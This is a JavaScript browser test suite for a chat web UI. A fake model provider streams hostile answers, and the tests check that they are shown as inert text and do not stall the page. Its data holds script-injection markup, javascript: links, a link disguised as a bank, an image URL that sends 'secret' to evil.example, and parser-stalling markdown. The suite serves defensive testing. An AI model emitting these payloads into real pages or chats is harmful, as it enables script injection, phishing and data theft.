// What models answer that has broken chats of others: markup, links that deceive, images that carry
// data away, texts that are long, and shapes of which a parser takes too long.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { openBrowser, openPage, screenshot, serve } from './lib.mjs'
import { lastUser, results, startProvider } from './provider.mjs'

const longName = 'a_tool_with_a_name_that_is_longer_than_the_place_for_it_in_a_row'

const pod = url => `
version: v2
kind: Spicepod
name: hostile
runtime:
  functions: { enabled: true }
functions:
  - name: nothing
    from: sql
    description: Returns nothing.
    signature: { args: [{ name: n, type: int64 }], returns: string }
    body: "CASE WHEN n > 0 THEN NULL ELSE repeat('<b>x</b>', 20000) END"
  - name: ${longName}
    from: sql
    description: Has a long name.
    signature: { args: [{ name: n, type: int64 }], returns: int64 }
    body: n
models:
  - name: m
    from: openai:gpt-test
    params: { endpoint: "${url}", tools: "nothing, ${longName}", max_retries: "0" }
`

const fence = '```'
const rtl = '\u202e'

/** What is answered to a message, in pieces. */
const answers = {
  markup: [
    '<script>window.hacked = 1</script>\n\n<img src=x onerror="window.hacked = 2">\n\n',
    '<style>body { display: none }</style>\n\n<iframe src="https://evil.example"></iframe> end of markup',
  ],
  links: [
    '[one](javascript:window.hacked=3) [two](data:text/html,hi) [three](/v1/sql) [four](vbscript:x)\n\n',
    '[https://bank.example](https://evil.example/path) <https://bank.example@evil.example/x>\n\n',
    '![secret](https://evil.example/pixel.png?q=secret) https://plain.example/a_(b) [ref][1]\n\n[1]: https://ref.example/\n',
  ],
  marks: [
    `It is ${rtl}exe.gpj${'\u202c'} and z\u200bero \u2066isolated`,
    `\n\n${fence}js\nif (a /*${rtl} } */) b()\n${fence}\n`,
  ],
  money: [
    'R$ 12,29 and R$ 18,60 and \\(user\\) and $x$\n\n| Code | Share |\n|---|--:|\n| LON:DGE | 0.18 |\n| `(1 \\| group)` | 1 |\n',
  ],
  tasks: [
    '- [ ] open\n- [x] done\n\n1. one\n2. two\n\n> quoted\n\n~~gone~~ **bold** *soft* `code`\n\n---\n\n# Title\n',
  ],
  open: [`Look:\n\n${fence}sql\nSELECT 1`],
  nested: [`${fence}${fence}md\n${fence}js\nx()\n${fence}\n${fence}${fence}\nafter`],
  code: [
    `${fence}js\n`,
    ...Array.from({ length: 100 }, (_, i) => `line(${i})\n`.repeat(100)),
    `${fence}\n\nend of code`,
  ],
  word: Array.from({ length: 64 }, () => 'w'.repeat(16 << 10)),
  megabyte: Array.from({ length: 256 }, (_, i) => `Paragraph ${i} ${'of many words '.repeat(290)}\n\n`),
  deep: ['> '.repeat(8000), 'quoted\n\n', '1. '.repeat(5000), '\n\n', '- '.repeat(8000), '\n\nend of depth'],
  stars: [
    '*a '.repeat(5000),
    '\n\n',
    '['.repeat(10000),
    '\n\n',
    '![a]('.repeat(3000),
    '\n\n',
    '**a'.repeat(5000),
    '\n\nend of stars',
  ],
  empty: [],
}

/** Shapes that a stream may cut anywhere: what is shown in the end does not depend on where. */
const whole = `A [link][1] before its definition, **bold
over lines** and \`code\`.

Setext
======

- one
  - two

    ${fence}js
    inner()
    ${fence}
- three

  a paragraph of three

1) first
2) second
lazy

| a | b |
|:-:|--:|
| 1 | 2 |
> quoted
> > twice
not lazy?

    indented code

~~~
tilde ${fence}
~~~
<div>text</div>

***

[1]: https://ref.example/ "title"
\r\nCarriage returns\r\n\r\nend of the whole

${fence}
left open ${'line\n'.repeat(600)}`
answers.whole = [whole]
answers.pieces = whole.match(/[\s\S]{1,7}/g)

test('answers that are hostile', async t => {
  const script = async function* (asked) {
    const text = lastUser(asked)
    if (text === 'null' && results(asked).length === 0) {
      yield { call: { name: 'nothing', arguments: { n: 1 } } }
      yield { call: { name: longName, arguments: { n: 1 } } }
      yield { call: { name: 'no_such_tool', arguments: {} } }
    } else if (text === 'large' && results(asked).length === 0) yield { call: { name: 'nothing', arguments: { n: 0 } } }
    else if (text === 'cut') {
      yield { say: 'Half an ans' }
      yield { cut: true }
    } else for (const piece of answers[text] ?? [`answer to ${text.slice(0, 40)}`]) yield { say: piece }
  }
  const provider = await startProvider(t, script)
  const spiced = await serve(t, { files: { 'spicepod.yaml': pod(provider.url) } })
  const browser = await openBrowser(t)
  const requests = []
  const open = async (t, o) => {
    const page = await openPage(t, browser, spiced.url + '/ui/chat', o)
    page.on('request', r => requests.push(r.url()))
    return page
  }
  const ask = async (page, text) => {
    const before = await page.getByRole('article').count()
    await page.getByRole('textbox', { name: 'Message', exact: true }).fill(text)
    await page.getByRole('button', { name: 'Send', exact: true }).click() // waits for the list of models
    const answer = page.getByRole('article').nth(before)
    await answer.getByText(/first text after|answered nothing/).waitFor()
  }
  /** stutter is the longest task of the page since the last call, in ms. */
  const stutter = page =>
    page.evaluate(() => {
      const before = window.longest ?? 0
      window.observer ??= new PerformanceObserver(list => {
        for (const e of list.getEntries()) window.longest = Math.max(window.longest, e.duration)
      })
      window.observer.observe({ type: 'longtask' })
      window.longest = 0
      return before
    })

  await t.test('markup is text', async t => {
    const page = await open(t)
    await ask(page, 'markup')
    await page.getByText('<script>window.hacked = 1</script>').waitFor()
    await page.getByText('end of markup').waitFor()
    assert.equal(await page.evaluate(() => window.hacked), undefined)
    assert.equal(await page.locator('.markdown').locator('script, img, style, iframe').count(), 0)
  })

  await t.test('links: only http and https, with their host; images are not loaded', async t => {
    const page = await open(t)
    await ask(page, 'links')
    await page.getByText('[one](javascript:window.hacked=3)').waitFor()
    const links = await page
      .locator('.markdown a')
      .evaluateAll(list => list.map(a => [a.href, a.target, a.rel, a.parentElement.textContent]))
    assert.deepEqual(
      links.map(l => [new URL(l[0]).host, ...l.slice(1, 3)]),
      ['evil', 'evil', 'evil', 'plain', 'ref'].map(h => [`${h}.example`, '_blank', 'noreferrer noopener']),
    )
    assert.equal(links[0][3], 'https://bank.example (evil.example)')
    assert.match(links[1][3], /\(evil\.example\)$/)
    await page.getByText('[image: secret').waitFor()
    assert.deepEqual(
      requests.filter(u => !u.startsWith(spiced.url)),
      [],
    )
    await screenshot(page, 'chat-links')
  })

  await t.test('marks that hide or reorder are visible', async t => {
    const page = await open(t)
    await ask(page, 'marks')
    await page.getByText('It is \\u{202e}exe.gpj\\u{202c} and z\\u{200b}ero \\u{2066}isolated').waitFor()
    await page.locator('.markdown pre', { hasText: '/*\\u{202e} } */' }).waitFor()
  })

  await t.test('dollars, colons and bars stay; tasks, quotes, code', async t => {
    const page = await open(t)
    await ask(page, 'money')
    await page.getByText('R$ 12,29 and R$ 18,60 and (user) and $x$').waitFor()
    await page.getByRole('cell', { name: 'LON:DGE' }).waitFor()
    await page.getByRole('cell', { name: '(1 | group)' }).waitFor()
    await ask(page, 'tasks')
    await page.getByText('☑ done').waitFor()
    await page.getByRole('heading', { name: 'Title' }).waitFor()
    await screenshot(page, 'chat-markdown')
    await ask(page, 'open')
    await page.locator('.markdown pre', { hasText: 'SELECT 1' }).waitFor()
    await ask(page, 'nested')
    await page.locator('.markdown pre', { hasText: /^```js\nx\(\)\n```/ }).waitFor()
  })

  await t.test('an answer in pieces looks as the same answer at once', async t => {
    const page = await open(t)
    await ask(page, 'whole')
    await ask(page, 'pieces')
    const [once, pieces] = await page.locator('.markdown').evaluateAll(list => list.map(e => e.innerHTML))
    assert.equal(pieces, once)
    assert.equal(await page.getByRole('link', { name: 'link' }).count(), 2)
  })

  await t.test('a conversation that is too long to be stored', async t => {
    const page = await open(t)
    for (let i = 0; i < 4; i++) {
      await ask(page, 'megabyte')
      assert.equal(await page.getByRole('article').count(), i + 1)
    }
    await page.getByText('The first 1 of the messages would be lost by a reload').waitFor()
    await page.reload()
    await page.getByText('Paragraph 255').last().waitFor()
    assert.ok((await page.getByRole('article').count()) < 4)
  })

  await t.test('10,000 lines of code are copied whole', async t => {
    const page = await open(t)
    await stutter(page)
    await ask(page, 'code')
    await page.getByText('end of code').waitFor()
    t.diagnostic(`longest task: ${Math.round(await stutter(page))} ms`)
    await page.getByRole('button', { name: 'Copy', exact: true }).click()
    await page.getByText('Copied').waitFor()
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    assert.equal(copied, answers.code.slice(1, -1).join(''))
    await page.getByRole('button', { name: 'Show all 10,000 lines' }).click()
    await page.locator('.markdown pre', { hasText: 'line(99)' }).waitFor()
  })

  for (const what of ['word', 'megabyte', 'deep', 'stars'])
    await t.test(`a long answer: ${what}`, async t => {
      const page = await open(t, { width: 400 })
      await stutter(page)
      await ask(page, what)
      const end = { deep: /^end of depth$/, stars: 'end of stars', megabyte: 'Paragraph 255', word: /^w+$/ }[what]
      await page.locator('.markdown').getByText(end).last().waitFor()
      const longest = Math.round(await stutter(page))
      t.diagnostic(`longest task: ${longest} ms`)
      assert.ok(longest < 2000, `the page stands still for ${longest} ms`)
      const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
      assert.ok(wide <= 0, `it is ${wide} px too wide`)
      await page.getByRole('textbox', { name: 'Message', exact: true }).fill('it still answers')
      await page.reload()
      await page.getByText(what, { exact: true }).first().waitFor()
    })

  await t.test('results: null, a long name, a tool that does not exist, one that is too large', async t => {
    const page = await open(t, { width: 400 })
    await ask(page, 'null')
    await page.getByRole('button', { name: 'nothing' }).click()
    await page.locator('.timeline .detail pre', { hasText: /^null$/ }).waitFor()
    await page.getByRole('button', { name: 'no_such_tool' }).click()
    await page.getByText('tool_not_found').waitFor()
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
    assert.ok(wide <= 0, `it is ${wide} px too wide`)
    await ask(page, 'large')
    await page.getByRole('button', { name: 'nothing' }).last().click()
    await page.getByText('The runtime sends the first 4 KiB of each value.').waitFor()
    await page.locator('.timeline .detail', { hasText: '<b>x</b>' }).waitFor()
    await screenshot(page, 'chat-results-400')
  })

  await t.test('an empty answer, one that breaks off, and sending again after it', async t => {
    const page = await open(t)
    await ask(page, 'empty')
    await page.getByText('The model has answered nothing.').waitFor()
    await page.getByText('This message is not part of further requests.').waitFor()
    await page.getByRole('textbox', { name: 'Message', exact: true }).fill('cut')
    await page.keyboard.press('Enter')
    await page.getByRole('alert').waitFor()
    await page.getByText('Half an ans').waitFor()
    const again = page.getByRole('button', { name: 'Send again' })
    assert.equal(await again.count(), 2)
    await again.last().click()
    await page.getByRole('alert').waitFor()
    assert.equal(await page.getByRole('article').count(), 2)
  })

  await t.test('Enter that ends the word of an input method does not send', async t => {
    const page = await open(t)
    const field = page.getByRole('textbox', { name: 'Message', exact: true })
    await field.fill('むずかしい')
    const before = provider.requests.length
    await field.evaluate(e => {
      const key = { key: 'Enter', bubbles: true, cancelable: true }
      e.dispatchEvent(new KeyboardEvent('keydown', { ...key, isComposing: true }))
      e.dispatchEvent(new KeyboardEvent('keydown', { ...key, keyCode: 229 }))
    })
    assert.equal(await field.inputValue(), 'むずかしい')
    await field.press('Enter')
    await page.getByText('answer to むずかしい').waitFor()
    assert.equal(provider.requests.length, before + 1)
  })

  await t.test('20,000 pasted lines, and a conversation of 100 messages', async t => {
    const page = await open(t)
    await stutter(page)
    const text = 'const a = 1\n'.repeat(20_000)
    await page.locator('#chat-message').evaluate((e, text) => {
      e.value = text
      e.dispatchEvent(new InputEvent('input', { bubbles: true }))
    }, text)
    await page.keyboard.press('Tab')
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await page.getByText('answer to const a').waitFor()
    const longest = await stutter(page)
    assert.ok(longest < 1000, `it stands still for ${longest} ms`)
    await page.getByText('first text after').waitFor()
    await page.evaluate(() => {
      const stored = JSON.parse(sessionStorage.getItem('spiced.chat'))
      window.dispatchEvent(new Event('pagehide'))
      const [turn] = stored.turns
      stored.turns = Array.from({ length: 100 }, (_, i) => ({
        ...turn,
        id: `t${i}`,
        text: `message ${i}`,
        answer: { ...turn.answer, id: `t${i}`, text: `**answer** ${i}\n\n`.repeat(40) },
      }))
      const text = JSON.stringify(stored)
      window.addEventListener('pagehide', () => sessionStorage.setItem('spiced.chat', text))
    })
    await page.reload()
    await page.getByText('message 99').waitFor()
    await stutter(page)
    await page
      .getByRole('textbox', { name: 'Message', exact: true })
      .pressSequentially('typing is not held back', { delay: 5 })
    const typing = await stutter(page)
    assert.ok(typing < 200, `typing is held back by ${typing} ms`)
  })

  await t.test('who scrolls up while an answer grows stays there', async t => {
    const page = await open(t)
    await ask(page, 'megabyte')
    await page.getByRole('textbox', { name: 'Message', exact: true }).fill('code')
    await page.keyboard.press('Enter')
    await page.mouse.wheel(0, -300)
    await page.getByText('end of code').waitFor({ state: 'attached' })
    const left = await page.evaluate(() => document.documentElement.scrollHeight - innerHeight - scrollY)
    assert.ok(left > 100, `it stands ${left} px above the end`)
  })
})
